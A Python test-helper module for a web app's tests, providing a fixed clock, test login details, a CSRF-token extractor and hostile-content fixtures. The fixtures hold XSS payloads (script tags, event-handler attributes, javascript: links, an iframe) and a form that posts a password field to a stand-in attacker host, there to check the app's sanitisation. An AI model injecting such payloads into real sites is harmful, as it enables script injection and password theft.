"""What the web tests share besides rows (tests.factories builds those): the fixed clock, sign-in
details, hostile content, and reading a form's CSRF token."""

from __future__ import annotations

import re

from tests import factories

NOW = factories.NOW
TODAY = NOW.date()
PASSWORD = "correct horse battery staple"
MANAGER_EMAIL = "maya.manager@advice-line.example"
ADVISER_EMAIL = "adam.adviser@advice-line.example"
OTHER_ADVISER_EMAIL = "olu.adviser@advice-line.example"

XSS_HTML = (
    '<p>Hello <b>advisers</b></p>'
    '<script>window.__xss = 1; alert("xss")</script>'
    '<img src="https://tracker.evil.example/pixel.gif" onerror="window.__xss=2;alert(2)"'
    ' alt="logo">'
    '<a href="javascript:window.__xss=3;alert(3)" id="jslink">click me</a>'
    '<div onclick="alert(4)" onmouseover="window.__xss=4;alert(4)" id="hover">hover here</div>'
    '<svg><script>alert(5)</script></svg>'
    '<iframe src="https://evil.example/"></iframe>'
    '<style>body { display: none }</style>'
    '<form action="https://evil.example/steal"><input name="password"></form>'
)
XSS_TEXT = 'Hello advisers <script>alert("text")</script> <img src=x onerror=alert(6)>'


def csrf_from(html: str) -> str:
    found = re.search(r'name="csrf_token" value="([^"]+)"', html)
    assert found, "no CSRF token on the page"
    return found.group(1)
